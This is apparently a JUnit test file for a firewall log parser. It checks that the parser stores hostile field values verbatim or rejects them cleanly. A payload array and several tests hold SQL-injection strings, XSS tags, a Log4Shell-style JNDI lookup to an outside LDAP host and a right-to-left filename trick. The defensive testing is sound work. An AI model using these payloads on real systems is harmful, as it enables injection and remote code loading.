package org.activedefense.parse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every field is attacker text: the parser stores it verbatim, rejects it, and never fails otherwise. */
class PanosLogParserHostileInputTest {

    private static final String SENDER = "198.51.100.1";
    private static final Instant RECEIVED = Instant.parse("2026-11-22T13:00:00Z");
    private static final String HEADER = "<14>Nov 22 13:00:00 PA-220 ";

    private final PanosLogParser parser =
            new PanosLogParser(KeyAliases.defaults(), DeviceTimeZones.parse("UTC", ""), true);

    private LogRecord parse(String line) throws RejectedLineException {
        return parser.parse(line, SENDER, RECEIVED);
    }

    private String reason(String line) {
        return assertThrows(RejectedLineException.class, () -> parse(line)).getMessage();
    }

    /** Parses or rejects; anything else (an unchecked exception, an error) fails the test. */
    private LogRecord parseOrReject(String line) {
        try {
            LogRecord r = parser.parse(line, SENDER, RECEIVED);
            assertNoNul(r);
            if (r.srcIp != null) {
                assertEquals(r.srcIp, IpLiteral.canonical(r.srcIp), "stored address is canonical");
            }
            if (r.srcPort != null) {
                assertTrue(r.srcPort >= 0 && r.srcPort <= 65535);
            }
            return r;
        } catch (RejectedLineException e) {
            assertTrue(e.getMessage() != null && !e.getMessage().isEmpty());
            assertEquals(0, e.getStackTrace().length, "rejections carry no stack trace");
            return null;
        } catch (RuntimeException | Error e) {
            fail("parser threw " + e + " for: " + abbreviate(line), e);
            return null;
        }
    }

    private static void assertNoNul(LogRecord r) {
        for (String text : new String[] {r.device, r.logType, r.subtype, r.srcIp, r.dstIp, r.srcLocation,
                r.dstLocation, r.srcUser, r.srcZone, r.dstZone, r.ruleName, r.ruleUuid, r.action, r.protocol,
                r.application, r.threatName, r.severity}) {
            assertTrue(text == null || text.indexOf('\0') < 0);
        }
    }

    private static String abbreviate(String line) {
        return line.length() > 200 ? line.substring(0, 200) + "…" : line;
    }

    @Test
    void emptyAndBlankLines() {
        assertEquals("empty line", reason(""));
        assertEquals("empty line", reason("   "));
        assertEquals("empty line", reason("\r\n"));
        assertEquals("empty line", assertThrows(RejectedLineException.class,
                () -> parser.parse(null, SENDER, RECEIVED)).getMessage());
    }

    @Test
    void nulAnywhereIsRejected() {
        String csv = PanosLogParserCsvTest.csv(PanosLogParserCsvTest.traffic(65));
        assertEquals("NUL character in line", reason(HEADER + csv.replace("Active Defense", "Active\0Defense")));
        assertEquals("NUL character in line", reason("<14>Nov 22 13:00:00 PA\u0000-220 " + csv));
        assertEquals("NUL character in line", reason("\0"));
        assertEquals("NUL character in line", reason("SrcIP=203.0.113.7; SrcUser=a\0b;"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<14>Nov 22 13:00:00 PA-220",
        "<14>Nov 22 13:00:00 PA-220 ",
        "<14>Nov 22 13:00:00 PA-220 root: ",
        "<14>Nov 22 13:00:00",
        "<14>1 2026-11-22T13:00:00Z PA-220 - - - -",
        "<14>1 2026-11-22T13:00:00Z PA-220 - - - - \uFEFF ",
        "2023-07-06T08:11:40+02:00 host",
        "535 <14>1 2020-03-27T09:57:41+01:00 PA-VM - - - -   ",
    })
    void headerWithoutBody(String line) {
        assertEquals("no body after header", reason(line));
    }

    @Test
    void unrecognisedBodies() {
        assertEquals("unrecognised body", reason(HEADER + "hello world"));
        assertEquals("unrecognised body", reason("<script>alert(1)</script>"));
        assertEquals("unrecognised body", reason("'; DROP TABLE firewall_log;--"));
        assertEquals("unrecognised body", reason(HEADER + "=value"));
        assertEquals("unrecognised body", reason(HEADER + "\uFFFD\uFFFD\uFFFD,1,2"));
    }

    @Test
    void invalidUtf8AlreadyDecodedAsReplacementCharacters() throws Exception {
        byte[] bytes = (HEADER + PanosLogParserCsvTest.csv(PanosLogParserCsvTest.traffic(65)))
                .getBytes(StandardCharsets.UTF_8);
        // Overwrite the rule name's first bytes with invalid UTF-8 and decode as a lenient framer would.
        String text = new String(bytes, StandardCharsets.UTF_8);
        int rule = text.indexOf("Active Defense Deny");
        bytes[rule] = (byte) 0xC3;
        bytes[rule + 1] = (byte) 0x28;
        bytes[rule + 2] = (byte) 0xFF;
        String decoded = new String(bytes, StandardCharsets.UTF_8);
        assertTrue(decoded.indexOf('\uFFFD') >= 0);
        LogRecord r = parse(decoded);
        assertTrue(r.ruleName.startsWith("\uFFFD("), r.ruleName);
        assertEquals(decoded, r.raw);

        String badHost = "<14>Nov 22 13:00:00 PA\uFFFD220 "
                + PanosLogParserCsvTest.csv(PanosLogParserCsvTest.traffic(65));
        assertEquals("PA\uFFFD220", parse(badHost).device);

        String[] traffic = PanosLogParserCsvTest.traffic(65);
        traffic[7] = "203.0.113.\uFFFD";
        assertEquals("invalid source address: '203.0.113.\uFFFD'", reason(PanosLogParserCsvTest.csv(traffic)));
    }

    private static final String[] PAYLOADS = {
        "'; DROP TABLE firewall_log;--",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\" OR \"1\"=\"1",
        "${jndi:ldap://198.51.100.66/a}",
        "\u202Egnp.exe",
    };

    @Test
    void sqlAndHtmlInEveryCsvTextFieldAreStoredVerbatim() throws Exception {
        for (String payload : PAYLOADS) {
            String[] threat = PanosLogParserCsvTest.threat(121);
            int[] textFields = {4, 11, 12, 14, 16, 17, 29, 30, 34, 38, 39, 76};
            for (int index : textFields) {
                threat[index] = payload;
            }
            threat[32] = payload + "(41234)";
            LogRecord r = parse(HEADER + PanosLogParserCsvTest.csv(threat));
            assertEquals(payload, r.subtype);
            assertEquals(payload, r.ruleName);
            assertEquals(payload, r.srcUser);
            assertEquals(payload, r.application);
            assertEquals(payload, r.srcZone);
            assertEquals(payload, r.dstZone);
            assertEquals(payload, r.protocol);
            assertEquals(payload, r.action);
            assertEquals(payload, r.severity);
            assertEquals(payload, r.srcLocation);
            assertEquals(payload, r.dstLocation);
            assertEquals(payload, r.ruleUuid);
            assertEquals(payload.strip(), r.threatName);
            assertEquals(41234L, r.threatId);
            assertEquals("203.0.113.7", r.srcIp);
        }
    }

    @Test
    void sqlAndHtmlInKeyValueFieldsAreStoredVerbatim() throws Exception {
        String[] kvPayloads = {"'; DROP TABLE firewall_log;--", "<script>alert(1)</script>", "\" OR \"1\"=\"1"};
        for (String payload : kvPayloads) {
            String line = HEADER + "SrcLocation=" + payload + "; SrcIP=203.0.113.7; SrcUser=" + payload
                    + "; DstLocation=" + payload + "; Action=" + payload + "; RuleName=" + payload
                    + "; RuleID=" + payload + "; ThreatName=" + payload + "; ThreatID=" + payload + "(1)"
                    + "; Severity=" + payload + "; Subtype=" + payload + "; Type= THREAT;";
            LogRecord r = parse(line);
            for (String value : new String[] {r.srcLocation, r.srcUser, r.dstLocation, r.action, r.ruleName,
                    r.ruleUuid, r.threatName, r.severity, r.subtype}) {
                assertEquals(payload, value);
            }
            assertEquals(1L, r.threatId);
        }
        // An attribute-laden tag forges a "src=" pair: refused rather than stored half-split.
        assertTrue(reason(HEADER + "SrcIP=203.0.113.7; SrcUser=<img src=x onerror=alert(1)>; Type= THREAT;")
                .startsWith("ambiguous"));
    }

    @Test
    void headerHostWithMarkupIsStoredVerbatim() throws Exception {
        String csv = PanosLogParserCsvTest.csv(PanosLogParserCsvTest.traffic(65));
        assertEquals("<script>alert(1)</script>", parse("<14>Nov 22 13:00:00 <script>alert(1)</script> " + csv).device);
        assertEquals("';DROP", parse("<14>Nov 22 13:00:00 ';DROP " + csv).device);
    }

    @Test
    void outOfRangePortAndAddressAreRejected() {
        String[] traffic = PanosLogParserCsvTest.traffic(65);
        traffic[25] = "99999";
        assertEquals("invalid destination port: '99999'", reason(PanosLogParserCsvTest.csv(traffic)));
        traffic = PanosLogParserCsvTest.traffic(65);
        traffic[7] = "999.1.1.1";
        assertEquals("invalid source address: '999.1.1.1'", reason(PanosLogParserCsvTest.csv(traffic)));
    }

    @Test
    void reasonsQuoteAtMostFortyCharactersWithoutControlCharacters() {
        String[] traffic = PanosLogParserCsvTest.traffic(65);
        traffic[7] = "\u001b[31m" + "9".repeat(500);
        String reason = reason(PanosLogParserCsvTest.csv(traffic));
        assertTrue(reason.startsWith("invalid source address: '?[31m999"), reason);
        assertTrue(reason.length() < 80, reason);
        assertTrue(reason.chars().noneMatch(Character::isISOControl), reason);
    }

    @Test
    void hundredKilobyteLines() throws Exception {
        String big = "A".repeat(100_000);
        String[] traffic = PanosLogParserCsvTest.traffic(65);
        traffic[11] = big;
        assertEquals(big, parse(HEADER + PanosLogParserCsvTest.csv(traffic)).ruleName);

        assertEquals(big, parse(HEADER + "SrcIP=203.0.113.7; RuleName=" + big + "; Type= TRAFFIC;").ruleName);
        StringBuilder pairs = new StringBuilder("Type= TRAFFIC;");
        while (pairs.length() < 100_000) {
            pairs.append(" k").append(pairs.length()).append("=v;");
        }
        assertEquals("TRAFFIC", parse(pairs.toString()).logType);

        assertEquals("unrecognised body", reason(HEADER + big));
        parseOrReject("1," + ",".repeat(100_000));
        parseOrReject("1,2,3,TRAFFIC" + ",\"".repeat(50_000));
        parseOrReject("a=" + " ".repeat(100_000) + "b");
        parseOrReject("a=" + ";".repeat(100_000));
        parseOrReject("<14>" + "Nov 22 13:00:00 h ".repeat(6_000));
        parseOrReject("<14>1 - - - - - " + "[a b=\"".repeat(10_000));
        assertEquals("host name longer than 255 characters", reason("<14>Nov 22 13:00:00 " + big + " 1,2"));
    }

    @Test
    void randomBinaryGarbageNeverEscapesAsAnythingButARejection() {
        Random random = new Random(20261122L);
        for (int i = 0; i < 3_000; i++) {
            byte[] bytes = new byte[random.nextInt(400)];
            random.nextBytes(bytes);
            parseOrReject(new String(bytes, StandardCharsets.ISO_8859_1));
            parseOrReject(new String(bytes, StandardCharsets.UTF_8));
        }
    }

    @Test
    void mutatedSampleLinesNeverEscapeAsAnythingButARejection() {
        List<String> lines = new ArrayList<>();
        for (String file : SampleLines.FILES) {
            lines.addAll(SampleLines.of(file));
        }
        String alphabet = ",\"=; <>[]()\\:-.0123456789Tt\t\r\n\uFEFF\uFFFD\0aZ";
        Random random = new Random(42L);
        int accepted = 0;
        for (int i = 0; i < 5_000; i++) {
            StringBuilder line = new StringBuilder(lines.get(random.nextInt(lines.size())));
            int edits = 1 + random.nextInt(4);
            for (int e = 0; e < edits && line.length() > 0; e++) {
                int at = random.nextInt(line.length());
                switch (random.nextInt(4)) {
                    case 0 -> line.setCharAt(at, alphabet.charAt(random.nextInt(alphabet.length())));
                    case 1 -> line.insert(at, alphabet.charAt(random.nextInt(alphabet.length())));
                    case 2 -> line.deleteCharAt(at);
                    default -> line.setLength(at);
                }
            }
            if (parseOrReject(line.toString()) != null) {
                accepted++;
            }
        }
        assertTrue(accepted > 0, "most single edits leave a storable line");
    }

    @Test
    void keyValueValuesThatOnlyLookLikeCsvStayText() throws Exception {
        LogRecord r = parse(HEADER + "SrcIP=203.0.113.7; SrcUser=1,2,3,TRAFFIC; Type= TRAFFIC;");
        assertEquals("1,2,3,TRAFFIC", r.srcUser);
        assertNull(r.dstIp);
    }
}
